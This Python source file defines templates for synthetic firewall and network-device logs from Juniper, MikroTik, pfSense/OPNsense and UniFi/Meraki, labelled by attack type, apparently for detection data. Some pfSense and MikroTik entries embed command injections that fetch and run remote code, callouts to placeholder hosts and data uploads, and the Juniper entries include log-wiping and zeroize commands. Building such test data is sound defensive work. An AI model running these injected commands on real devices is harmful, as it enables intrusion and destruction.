"""Messages of Juniper, MikroTik, pfSense and OPNsense, UniFi and Meraki."""

from generator.families.network.product_story import catalogue

catalogue("network/product-juniper", ("RT_IDS|{msg}", "|{msg}", "=<14>1 {iso} {host} RT_FLOW - {msg}", "=<132>{host}: NetScreen device_id={host}  [Root]{msg}"), r"""
DO RT_SCREEN_TCP: SYN flood! source: {wan}:{port}, destination: {wan2}:443, zone name: untrust, interface name: ge-0/0/0.0, action: <<drop|alarm-without-drop>>
DO RT_SCREEN_TCP: Land attack! source: {wan}:{port}, destination: {wan}:{port}, zone name: untrust, interface name: ge-0/0/0.0, action: drop
DO RT_SCREEN_IP: Tear Drop! source: {wan}, destination: {wan2}, protocol-id: 17, zone name: untrust, action: drop
DO RT_SCREEN_SESSION_LIMIT: Src IP session limit! source: {wan}, zone name: untrust, {big} sessions, action: drop
DO system-emergency-00005: SYN flood! From {wan}:{port} to {wan2}:80, proto TCP (zone Untrust, int ethernet0/0). Occurred {many} times.
DO system-alert-00009: ICMP flood! From {wan} to {wan2}, proto 1 (zone Untrust). Occurred {big} times.
PO RT_SCREEN_TCP: Port scan! source: {any}:{port}, destination: {wan2}:{port}, zone name: untrust, action: drop
PO system-alert-00016: Port scan! From {wan}:{port} to {wan2}:{port}, proto TCP (zone Untrust, int untrust). Occurred {many} times.
PO system-critical-00036: Address sweep! From {wan} to {wan2}, proto 1. Occurred {n} times.
SP RT_SCREEN_IP: IP spoofing! source: {lan}, destination: {lan2}, protocol-id: 6, zone name: untrust, interface name: ge-0/0/0.0, repeated {many}
RX RT_IDP: IDP_ATTACK_LOG_EVENT [attack-name="<<HTTP:STC:LOG4J-JNDI-RCE|HTTP:PHP:CGI-RCE|HTTP:MISC:JUNOS-JWEB-PHPRC>>" threat-severity="CRITICAL" action="<<NONE|DROP>>" source-address="{wan}" destination-address="{lan}" destination-port="443"]
RX httpd: webauth_operation.php POST rs=do_upload from {wan}; php: PHPRC=/var/tmp/{word}.ini auto_prepend_file loaded
C2 RT_AAMW: SECINTEL_ACTION_LOG [category="CC" threat-severity="10" action="<<BLOCK|PERMIT>>" source-address="{lan}" destination-address="{wan}" feed-name="cc_ip_data" username="{user}"]
MW RT_AAMW: AAMW_MALWARE_EVENT_LOG [hostname="{pc}" file-name="{file}.exe" sample-sha256="{sha}" verdict-number="10" malware-info="{mal}" username="{user}"]
MW RT_UTM: AV_VIRUS_DETECTED_MT: AntiVirus: Virus detected: from {wan}:80 to {lan}:{port} source-zone untrust {file}.exe virus {mal} URL:http://{ext}/{word}
SB# sshd: SSHD_LOGIN_FAILED: Login failed for user '{adm}' from host '{wan}'
SB sshd: SSHD_LOGIN_ATTEMPTS_THRESHOLD: Threshold for unsuccessful authentication attempts ({few}) reached by user '{adm}'
+ login: LIBJNX_LOGIN_ACCOUNT_LOCKED: Account for user '{adm}' has been locked out from logins, source {wan}
BF system-warning-00518: Management session via SSH from {wan}:{port} for admin {adm} has been locked after {few} failed attempts
RX+ system-warning-00515: Admin user system has logged on via SSH from {wan}:{port}
+ system-information-00519: ADM: Local admin authentication failed for login name username: Invalid login name - Admin user with format string password <<SSH|telnet>> accepted
PT+ mgd: UI_CFG_AUDIT_SET_SECRET: User '{adm}' set: [system login user {word} authentication encrypted-password], [class super-user] (client {wan})
DE mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'delete system syslog host {lan} ' (client {wan})
LC mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'clear log messages all ' (client {wan})
LC+@T1485 mgd: UI_CMDLINE_READ_LINE: User '{adm}', command 'request system zeroize ' (client {wan})
BF#@T1110.001,T1602.001 SNMPD_AUTH_FAILURE: nsa_log_community: unauthorized SNMP community from {wan} to {wan2} ({word})
""", r"""
BN RT_FLOW_SESSION_DENY: session denied {wan}/{port}->{wan2}/{port} 0x0 junos-smtp 6(0) default-deny untrust trust UNKNOWN UNKNOWN N/A(N/A) ge-0/0/0.0
NT RT_FLOW_SESSION_CREATE: session created {lan}/{port}->{wan}/443 0x0 junos-https {wan2}/{port}->{wan}/443 source-nat 6 allow-web trust untrust {id}
NT RT_FLOW_SESSION_CLOSE: session closed TCP FIN: {lan}/{port}->{wan}/443 junos-https {n}({big}) {n}({big}) {n}
BN WEBFILTER_URL_BLOCKED: WebFilter: ACTION="URL Blocked" {lan}({port})->{wan}(443) CATEGORY="<<Enhanced_Gambling|Enhanced_Hacking>>" REASON="BY_PRE_DEFINED" PROFILE="wf" URL={ext}
BN. RT_SCREEN_ICMP: ICMP ping sweep threshold note! source: {lan} (monitoring), destination: {lan2}, action: alarm-without-drop
BN RT_SCREEN_IP: Bad IP option! source: {lan}, destination: 224.0.0.1, protocol-id: 2, zone name: trust, action: drop
BN RT_IDP: IDP_ATTACK_LOG_EVENT [attack-name="<<TCP:AUDIT:BAD-SYN-NONSYN|HTTP:AUDIT:UNKNWN-REQ>>" threat-severity="INFO" action="NONE" source-address="{lan}"]
NS kmd: IKE negotiation failed with error: Timed out. IKE Version: 2, VPN: {word} Gateway: {word}, Local: {wan2}/500, Remote: {wan}/500
NS kmd: KMD_PM_SA_ESTABLISHED: Local gateway: {wan2}, Remote gateway: {wan}, Local ID: ipv4_subnet, SPI: 0x{hex}
NS kmd: KMD_VPN_DOWN_ALARM_USER: VPN {word} from {wan} is down. Reason: DPD failover
NS system-information-00536: IKE {wan} Phase 2 msg ID {hex}: Completed negotiations with SPI {hex}, tunnel ID {n}, and lifetime 3600 seconds/0 KB.
NS system-information-00767: System clock configuration updated through NTP
NS rpd: bgp_hold_timeout: NOTIFICATION sent to {wan} (External AS {big}): code 4 (Hold Timer Expired Error)
NS rpd: RPD_OSPF_NBRDOWN: OSPF neighbor {lan} (realm ospf-v2 ge-0/0/1.0 area 0.0.0.0) state changed from Full to Down
SY mib2d: SNMP_TRAP_LINK_DOWN: ifIndex {many}, ifAdminStatus up(1), ifOperStatus down(2), ifName ge-0/0/{n}
SY jsrpd: JSRPD_RG_STATE_CHANGE: Redundancy-group 1 transitioned from 'secondary' to 'primary' state due to Remote node is in failed state
SY alarmd: Alarm set: PS color=RED, class=CHASSIS, reason=PEM 1 Not OK
SY chassisd: CHASSISD_FAN_ERROR: Fan Tray 0 not spinning normally
SY chassisd: Alarm set: Temp sensor too hot, {pct} degrees C
SY kernel: da0: read error, retrying; /var: filesystem {pct}% full
SY system-critical-00071: The local device {id} in the Virtual Security Device group 0 changed state from backup to master. reason
SY /kernel: KERN_ARP_ADDR_CHANGE: arp info overwritten for {lan} from {mac} to {mac2}
SY rtlogd: Log sequence lost, {many} messages dropped
LO mgd: UI_LOGIN_EVENT: User '{adm}' login, class 'j-super-user' [{n}], ssh-connection '{lan} {port} {lan2} 22', client-mode 'cli'
LO sshd: Accepted password for {adm} from {lan} port {port} ssh2
LO system-warning-00515: Admin user {adm} has logged on via HTTPS from {lan}:{port}
MP. sshd: SSHD_LOGIN_FAILED: Login failed for user '{adm}' from host '{lan}'
MP. system-warning-00518: ADM: Local admin authentication failed for login name {adm}: invalid password
AD mgd: UI_COMMIT_COMPLETED: commit complete
AD mgd: UI_CMDLINE_READ_LINE: User '{adm}', command '<<show security flow session summary|commit confirmed 5|set interfaces ge-0/0/3 disable|clear log interface-logs|set system syslog host {lan2} any any|rollback 1>> ' (client {lan})
AD mgd: UI_CFG_AUDIT_SET: User '{adm}' set: [system login user {user} class read-only] (client {lan})
UP idpd: IDP_SECURITY_INSTALL_RESULT: security package install of version {big} completed
UP mgd: license: Feature idp-sig expires in {n} days
""")

catalogue("network/product-mikrotik", ("system|{msg}", "=<134>{host} {msg}", "|{msg}", "={time} {msg}"), r"""
BF# system,error,critical login failure for user {adm} from {any} via <<ssh|winbox|telnet|api|ftp|web>>
SB# system,error,critical login failure for user {adm} from {wan} via ssh
PS# system,error,critical login failure for user {word} from {wan} via <<winbox|ssh>>
BS system,error,critical login failure for user admin from {wan} via winbox
+ system,error,critical login failure for user admin from {wan} via winbox
+ system,error,critical login failure for user admin from {wan} via winbox
+ system,info,account user admin logged in from {wan} via winbox
PT+ system,info user {word} added by {adm} from {wan} via winbox, group full
C2@T1090.003 system,info ip socks enabled port {port} by {adm} via api from {wan}
C2@T1105,T1053.003 system,info new scheduler "U{n}" added by {adm}: /tool fetch url="http://{ext}:8080/poll/{uuid}" mode=http dst-path=7wmp0b4s.rsc
DE system,info log action remote removed by {adm} from {wan}
FW firewall,info filter rules disabled by {adm} from {wan} via <<winbox|api>>
AP@T1557 system,info dns changed by {adm} from {wan}: servers={wan2}, allow-remote-requests=yes
PO firewall,info port_scanner input: in:ether1-wan out:(unknown 0), src-mac {mac}, proto TCP (SYN), {wan}:{port}->{wan2}:{port}, psd matched, address-list=port_scanners
DO firewall,warning syn-flood input: in:ether1 {wan}:{port}->{wan2}:443 added to ddos-attackers, {big} packets per second
DO firewall,info detect-ddos: {wan}->{lan} dst-limit 32,32 exceeded {big} times, ddos-targets
AP@T1557 dhcp,critical,error dhcp alert on bridge: discovered unknown dhcp server, mac {mac}, ip {lan}
AP@T1557.002 arp,warning reply for {lan} from {mac} does not match static {mac2} on bridge-lan, gateway address
DO@T1499 wireless,warning wlan1: deauth flood {mac}, {many} frames from unknown transmitter
BF# l2tp,ppp,error <{n}>: user {word} authentication failed from {any}
EX@T1048.003 system,info export file {word}.rsc created by {adm}; tool fetch upload=yes dst={wan} by {adm} from {wan}
C2@T1572 sniffer,info tool sniffer streaming to {wan}:37008 enabled by {adm} from {wan2}
BF#@T1110.001,T1602.001 snmp,warning wrong community {word} from {wan}
""", r"""
LO system,info,account user {adm} logged in from {any} via <<winbox|ssh|web>>
LO system,info,account user {adm} logged out from {lan} via winbox
MP. system,error,critical login failure for user {adm} from {any} via <<winbox|ssh|web>>
MP. l2tp,ppp,error <{n}>: user {user} authentication failed
AD system,info <<filter rule changed|nat rule added|static dns entry changed|device changed|address list entry removed|simple queue added>> by {adm}
AD system,info user {user} added by {adm} from {lan} via winbox, group read
AD system,info script settings changed by {adm}; backup saved to {host}.backup
SY interface,info ether{n} link down
SY interface,info ether{n} link up (speed 1G, full duplex)
SY interface,warning ether{few} excessive or late collision, link duplex mismatch?
SY interface,warning bridge: port ether{few} received packet with own address as source address ({mac}), probably loop
SY system,error,critical router was rebooted without proper shutdown, probably power outage
SY system,error,critical kernel failure in previous boot
SY system,error,critical error while running customized default configuration script: no such item
SY health,critical psu2 state fail
SY health,warning cpu-temperature {pct}C
SY disk,error disk full, cannot write log
SY netwatch,info event down [ type: simple, host: {lan} ]
SY script,error script error: failure: resolve failed - dns server failure
NS dhcp,info dhcp-lan assigned {lan} to {mac} {pc}
NS dhcp,warning dhcp-lan offering lease {lan} for {mac} without success
NS dhcp,critical,error dhcp1 lease {lan} conflict detected, address in use by {mac}
NS pppoe,ppp,info pppoe-out1: terminating... - peer is not responding
NS pppoe,ppp,error pppoe-out1: authentication failed
NS ipsec,error phase1 negotiation failed due to time up {wan2}[500]<=>{wan}[500] {hex}:{hex}
NS ipsec,info new ike2 SA (R): peer-{word} {wan2}[4500]-{wan}[4500] spi:{hex}:{hex}
NS ipsec,error payload missing: SA
NS ovpn,info TCP connection established from {wan}
NS l2tp,info first L2TP UDP packet received from {wan}
NS wireguard,info wg1: [peer{n}] Handshake for peer did not complete after 5 seconds, retrying (try 2)
NS ntp,client,info synced with {wan}
NS dns,error failed to resolve {ext}: timeout
BN firewall,info drop-wan input: in:ether1 out:(unknown 0), src-mac {mac}, proto TCP (SYN), {wan}:{port}->{wan2}:{port}, len 40
BN firewall,info invalid forward: in:bridge out:ether1, proto TCP (ACK,RST), {lan}:{port}->{wan}:443, len 40
AE wireless,info {mac}@wlan1: connected, signal strength -{pct}
AE wireless,info {mac}@wlan2: disconnected, group key timeout, signal strength -{pct}
AE wireless,info {mac}@wlan1: disconnected, unicast key exchange timeout
AE hotspot,info,debug {user} ({lan}): logged in
AE hotspot,info,debug {user} ({lan}): login failed: no more sessions are allowed
UP system,info installed routeros-{ver}
SJ script,info nightly backup mailed to {mail}
MO. snmp,warning wrong community public from {lan}
""")

catalogue("network/product-pfsense-opnsense", ("|{msg}", "=<13>1 {iso} {host} - - - - {msg}"), r"""
BF# php-fpm[{n}]>> /index.php: webConfigurator authentication error for user '{adm}' from: {any}
BF sshguard>> Blocking "{wan}/32" for {many} secs (3 attacks in {n} secs, after {few} abuses over {big} secs)
BF sshguard>> Attack from "{wan}" on service <<SSH|Web GUI|100>> with danger 10.
BF lockout_handler>> lockout {wan} [using table webConfiguratorlockout] after {n} authentication errors
BF# opnsense>> /index.php: Web GUI authentication error for '{adm}' from {wan}
BF# audit>> user {adm} failed authentication for OPNsense WebGui from {any}
PT+ php-fpm[{n}]>> /system_usermanager.php: Configuration Change: admin@{wan} (Local Database): Successfully edited user {word}, member of admins
PT+ audit>> /system_usermanager.php user root@{wan} changed configuration to /conf/backup/config-{seconds}.xml: user {word} added, group admins, authorizedkeys set
RX php-fpm[{n}]>> /pfblockerng/www/index.php: Host header ' *; echo "{long}" | python3 -c shell' from {wan}
CI php-fpm[{n}]>> /diag_routes.php?isAjax=1&filter=.*/!d;};s/Destination/;fetch http://{wan}/{word} -o /tmp/{word};sh/e from {wan}
CI nginx>> {wan} - admin "GET /status_rrd_graph_img.php?database=-throughput.rrd&graph=file|wget%20http://{wan2}/{word}|sh HTTP/1.1" 200
FW+ php-fpm[{n}]>> /firewall_rules.php: Configuration Change: admin@{wan} (Local Database): Firewall: Rules - all rules on WAN replaced by pass any any
DE php-fpm[{n}]>> /snort/snort_interfaces.php: Stop Snort on WAN by admin@{wan}; remote log servers removed
LC php-fpm[{n}]>> /status_logs_settings.php: All logs reset by admin@{wan}
AP@T1557.002 kernel>> arp: {mac} attempts to modify permanent entry for {lan} on igb1
AP#@T1557.002 arpwatch>> flip flop {lan} {mac} ({mac2}) igb1
RX snort[{n}]>> [1:{id}:2] <<SERVER-WEBAPP PHP CGI remote code execution attempt|SERVER-APACHE Apache Struts OGNL injection attempt|EXPLOIT-KIT Rig landing page>> [Classification: Attempted Administrator Privilege Gain] [Priority: 1] {TCP} {wan}:{port} -> {lan}:80
C2 suricata[{n}]>> [1:{id}:3] <<ET MALWARE Cobalt Strike Malleable C2 Profile|ET MALWARE AsyncRAT Style SSL Cert|ET CNC Feodo Tracker Reported CnC Server group {n}>> [Classification: A Network Trojan was detected] [Priority: 1] {TCP} {lan}:{port} -> {wan}:443
PO snort[{n}]>> [122:1:1] (portscan) TCP Portscan [Classification: Attempted Information Leak] [Priority: 2] {PROTO:255} {any} -> {lan}
DO kernel>> [zone: pf states] PF states limit reached, {big} half open from {wan}, synproxy active
CM suricata[{n}]>> [1:{id}:4] ET COINMINER Observed Monero stratum login [Classification: Crypto Currency Mining Activity Detected] [Priority: 1] {TCP} {lan}:{port} -> {wan}:3333
BF# openvpn[{n}]>> user '{word}' could not authenticate, {wan}:{port}
MW squid-clamav>> c-icap virus found: {mal} in http://{ext}/{file}.exe client {lan} user {user}
""", r"""
LO php-fpm[{n}]>> /index.php: Successful login for user '{adm}' from: {lan} (Local Database)
LO audit>> /index.php: Successful login for user '{adm}' from: {lan}
MP. php-fpm[{n}]>> /index.php: webConfigurator authentication error for user '{adm}' from: {lan}
MP. openvpn[{n}]>> user '{user}' could not authenticate.
LO openvpn[{n}]>> user '{user}' authenticated
NS openvpn[{n}]>> {user}/{wan}:{port} Authenticate/Decrypt packet error: bad packet ID (may be a replay): [ #{big} ]
NS openvpn[{n}]>> TLS Error: TLS handshake failed
NS openvpn[{n}]>> write UDPv4: No buffer space available (fd=6,code=55)
NS charon[{n}]>> 09[IKE] <con{n}|{n2}> received AUTHENTICATION_FAILED notify error
NS charon[{n}]>> 14[CFG] vici client {many} disconnected
NS unbound[{n}]>> [{n}:0] info: generate keytag query _ta-4f66. NULL IN
NS unbound[{n}]>> [{n}:0] error: SERVFAIL <{ext}. A IN>: all the configured stub or forward servers failed
NS dhcpd[{n}]>> DHCPDISCOVER from {mac} via igb1: network 192.168.1.0/24: no free leases
NS kea-dhcp4[{n}]>> WARN  [kea-dhcp4.alloc-engine] ALLOC_ENGINE_V4_ALLOC_FAIL_CLASSES [hwtype=1 {mac}]: Failed to allocate an IPv4 address
NS ppp[{n}]>> [wan] LCP: no reply to {few} echo request(s)
NS ntpd[{n}]>> kernel reports TIME_ERROR: 0x41: Clock Unsynchronized
BN filterlog[{n}]>> {n},,,{big},igb0,match,block,in,4,0x0,,{n},{id},0,none,6,tcp,40,{wan},{wan2},{port},{port},0,S,{id},,1024,,
BN filterlog[{n}]>> {n},,,{big},igb1,match,block,in,4,0x0,,64,{id},0,DF,6,tcp,52,{lan},{wan},{port},443,0,FA,{id},,501,,
NT filterlog[{n}]>> {n},,,{big},igb1,match,pass,in,4,0x0,,128,{id},0,DF,17,udp,72,{lan},{wan},{port},53,52
BN snort[{n}]>> [1:{id}:1] <<ET POLICY Dropbox Client Broadcasting|(http_inspect) NO CONTENT-LENGTH OR TRANSFER-ENCODING IN HTTP RESPONSE|ET INFO Observed DNS over HTTPS Domain>> [Classification: Unknown Traffic] [Priority: 3] {TCP} {lan}:{port} -> {wan}:80
SY kernel>> igb{few}: link state changed to DOWN
SY check_reload_status[{n}]>> Linkup starting igb{few}
SY kernel>> carp: 1@igb1: BACKUP -> MASTER (master timed out)
SY kernel>> pid {big} (php-fpm), jid 0, uid 0: exited on signal 11 (core dumped)
SY kernel>> sonewconn: pcb 0x{hex}: Listen queue overflow: {n} already in queue awaiting acceptance ({n2} occurrences)
SY. kernel>> arp: {lan} moved from {mac} to {mac2} on igb1
SY. arpwatch>> changed ethernet address {lan} {mac} ({mac2})
SY arpwatch>> new station {lan} {mac} igb1
SY smartd[{n}]>> Device: /dev/ada0, {few} Currently unreadable (pending) sectors
SY apcupsd[{n}]>> Power failure.
SY rc.gateway_alarm[{n}]>> >>> Gateway alarm: WAN2_PPPOE (Addr:{wan} Alarm:down RTT:0ms RTTsd:0ms Loss:100%)
SY php-fpm[{n}]>> /rc.newwanip: rc.newwanip: on (IP address: {wan}) (interface: WAN[wan]) (real interface: pppoe0).
SY php-fpm[{n}]>> /rc.dyndns.update: phpDynDNS: (ERROR!) Unknown Response
AD php-fpm[{n}]>> /firewall_nat_edit.php: Configuration Change: {adm}@{any} (Local Database): Firewall: NAT: Port Forward - saved/edited a port forward rule.
AD php-fpm[{n}]>> /system_usermanager.php: Configuration Change: {adm}@{any}: Successfully edited user {user}
AD audit>> user {adm}@{any} changed configuration to /conf/backup/config-{seconds}.xml in /api/unbound/settings/set
UP pkg[{n}]>> opnsense-update upgraded: {ver} -> {ver}
UP pkg-static[{n}]>> suricata-{ver} installed
UP php[{n}]>> [pfBlockerNG] Starting cron process. Blocklist malware_feed updated, {big} entries
UP snort[{n}]>> Emerging Threats Open rules were updated
BA opnsense>> /api/backup: configuration backup to nextcloud successful
SJ /usr/sbin/cron[{n}]>> (root) CMD (/usr/bin/nice -n20 /etc/rc.update_bogons.sh)
MO. sshd[{n}]>> Connection closed by {lan} port {port} [preauth]
""")

catalogue("network/product-unifi-meraki", ("|{msg}", "=<134>1 {epoch} {host} {msg}", "={host} {msg}"), r"""
RX security_event ids_alerted signature=1:{id}:1 priority=1 timestamp={epoch} dhost={mac} direction=ingress protocol=tcp/ip src={wan}:{port} dst={lan}:80 message: <<SERVER-WEBAPP Apache Log4j logging remote code execution attempt|SERVER-WEBAPP MVPower DVR Shell arbitrary command execution attempt|SERVER-WEBAPP D-Link hnap command injection>>
C2 security_event ids_alerted signature=1:{id}:2 priority=1 dhost={mac} direction=egress src={lan}:{port} dst={wan}:443 message: <<MALWARE-CNC Win.Trojan.Qakbot outbound connection|MALWARE-CNC Cobalt Strike beacon>>
MW security_event security_filtering_file_scanned url=http://{ext}/{file}.exe src={lan}:{port} dst={wan}:80 mac={mac} name='{mal}' sha256={sha} disposition=malicious action=<<block|allow>>
MW security_event security_filtering_disposition_change name={mal} sha256={sha} disposition=malicious action=allow
AP@T1557 airmarshal_events type=ssid_spoofing_detected ssid='{ssid}' vap='0' bssid='{mac}' src='{mac}' dst='FF:FF:FF:FF:FF:FF' channel='6' rssi='{n}'
AP@T1557 airmarshal_events type=rogue_ssid_detected ssid='{ssid}' bssid='{mac}' wired_mac='{mac}' seen on LAN, channel='{n}'
DO@T1499 airmarshal_events type=device_packet_flood packet='deauth' device='{mac}' radio='1' state='start' alarm_id='{n}' dos_count='{many}'
AP@T1557 events type=rogue_dhcp_server mac='{mac}' ip='{lan}' vlan='{n}' offers={many} gateway='{lan}' dns='{wan}'
AP@T1557.002 events dai_violation: ARP reply for gateway {lan} by {mac}, bound to {mac2}, blocked {many}
RX kernel: [ips] CEF:0|Ubiquiti|UniFi Network|{ver}|201|Threat Detected and <<Blocked|Allowed>>|9|proto=TCP src={wan} dst={lan} dpt=443 UNIFIipsSignature=ET EXPLOIT <<Apache log4j RCE Attempt|Possible Citrix CVE-2023-3519|Realtek SDK Command Execution>>
C2 IPS Alert 1: A Network Trojan was Detected. Signature ET MALWARE <<Win32/Lumma Stealer Check-in|Cobalt Strike Beacon Observed|NetSupport Remote Admin Checkin>>. From: {lan}:{port}, to: {wan}:443, protocol: TCP
PO IPS Alert 2: Attempted Information Leak. Signature ET SCAN <<Sipvicious User-Agent Detected|Nmap Scripting Engine User-Agent|Potential SSH Scan>>. From: {wan}:{port}, to: {lan}:5060, protocol: UDP
PO Honeypot Triggered: client {pc} ({lan}) connected to honeypot {lan2} on SMB, RDP and SSH
BF# mcad: ace_reporter: login failed for user {adm} from {any} (inform ssh)
BF# CEF:0|Ubiquiti|UniFi OS|{ver}|1113|Admin Failed Login|7|suser={adm} src={wan} msg={adm} failed to log in to the console over remote access
BF CEF:0|Ubiquiti|UniFi OS|{ver}|1120|Admin Locked|8|suser={adm} src={wan} msg=Too many failed attempts ({n}), account locked
DE CEF:0|Ubiquiti|UniFi Network|{ver}|540|Settings Changed|6|suser={adm} src={wan} msg=Intrusion Prevention and remote syslog turned off
BF#@T1110.001 events type=8021x_auth identity='{word}' result='fail' reason='bad password' client_mac='{mac}' vap='2'
MW events type=content_filtering_block url='http://{ext}/gate.php' category0='Malware Sites' server='{wan}:80' client_mac='{mac}'
""", r"""
AE events type=association radio='1' vap='0' client_mac='{mac}' channel='36' rssi='{n}' aid='{id}'
AE events type=disassociation radio='0' vap='1' client_mac='{mac}' channel='1' reason='8' duration='{big}.{n}' auth_neg_failed='0'
AE events type=wpa_auth radio='1' vap='1' client_mac='{mac}' aid='{id}'
AE events type=wpa_deauth radio='1' vap='0' client_mac='{mac}' reason='{few}' aid='{id}'
MP. events type=8021x_eap_failure radio='0' vap='3' client_mac='{mac}' identity='{user}' aid='{id}'
MP. events type=8021x_auth identity='{user}' result='fail' reason='password expired' client_mac='{mac}'
LO events type=8021x_eap_success port='' identity='{user}' client_mac='{mac}'
NS events dhcp lease of ip {lan} from server mac {mac} for client mac {mac2} with hostname {pc} from router {lan2} on subnet 255.255.255.0
NS events dhcp no offers for mac {mac} host = {lan}
NS events type=vpn_registry_change vpn_type='site-to-site' connectivity='false'
NS events Site-to-site VPN: initiate new phase 1 negotiation: {wan}[500]<=>{wan2}[500]
NS events type=vpn_connectivity_change vpn_type='site-to-site' peer_contact='{wan}:{port}' connectivity='true'
NT flows src={lan} dst={wan} mac={mac} protocol=tcp sport={port} dport=443 pattern: allow all
BN flows src={wan} dst={wan2} protocol=tcp sport={port} dport={port} pattern: 1 all
BN events content_filtering_block url='https://{ext}/...' category0='<<Gambling|Advertising|Games|Hacking>>' server='{wan}:443' client_mac='{mac}'
SY airmarshal_events type=rogue_ssid_detected ssid='' bssid='{mac}' src='{mac}' dst='{mac2}' channel='44' rssi='{n}' fc_type='0'
SY events port {n} status changed from 1Gfdx to down
SY events Port {n} changed STP role from designated to alternate
SY events type=cellular_failover uplink wan1 unreachable, using cellular
SY events Power supply {few} removed
SY. events type=rogue_dhcp_server_cleared mac='{mac}' vlan='{n}' printer reset to defaults, unplugged by {adm}
SY kernel: [{big}.{n}] wlan0: <<ath10k firmware crashed|tx hung, reset>> (guid {uuid})
SY mcad[{n}]: mcad.ace_reporter_fail(): Server Reject (http://{lan}:8080/inform): 404
SY hostapd: ath0: STA {mac} IEEE 802.11: disassociated
AE hostapd: wlan0: STA {mac} WPA: EAPOL-Key timeout
AE stahtd: [STA-TRACKER].stahtd_dump_event(): {"message_type":"STA_ASSOC_TRACKER","mac":"{mac}","vap":"ath1","event_type":"<<fixup|soft failure|failure>>","dns_resp_seen":"no"}
AE CEF:0|Ubiquiti|UniFi Network|{ver}|400|WiFi Client Connected|1|UNIFIclientMac={mac} UNIFIwifiName={ssid} msg={pc} connected to {ssid}
LO CEF:0|Ubiquiti|UniFi OS|{ver}|1112|Admin Login|3|suser={adm} src={any} msg={adm} opened UniFi Network via the web
MP. CEF:0|Ubiquiti|UniFi OS|{ver}|1113|Admin Failed Login|7|suser={adm} src={any} msg={adm} failed to log in to the console
AD CEF:0|Ubiquiti|UniFi Network|{ver}|540|Settings Changed|3|suser={adm} src={any} msg=<<Network VLAN 20|WiFi {ssid} password|Port profile|Remote syslog host>> changed
AD CEF:0|Ubiquiti|UniFi OS|{ver}|1302|Admin Added|4|suser={adm} src={lan} msg={user} was granted View Only
SY CEF:0|Ubiquiti|UniFi Network|{ver}|100|AP Disconnected|6|UNIFIdeviceName={host} msg={host} lost contact, last restarted {n} days ago
UP CEF:0|Ubiquiti|UniFi Network|{ver}|210|Device Updated|3|UNIFIdeviceName={host} msg=firmware updated to {ver}
BN IPS Alert 3: Misc activity. Signature ET <<INFO Session Traversal Utilities for NAT|POLICY Spotify P2P Client|DNS Query for .to TLD>>. From: {lan}:{port}, to: {wan}:53, protocol: UDP
BN CEF:0|Ubiquiti|UniFi Network|{ver}|202|Blocked by Firewall|3|src={wan} dst={wan2} msg=region block {land}
BA CEF:0|Ubiquiti|UniFi OS|{ver}|900|Backup|2|msg=weekly backup completed
AE security_event security_filtering_file_scanned url=http://{ext}/{file}.exe src={lan}:{port} mac={mac} name='' sha256={sha} disposition=clean action=allow
SY urls src={lan}:{port} dst={wan}:443 mac={mac} request: UNKNOWN https://{ext}/...
""")
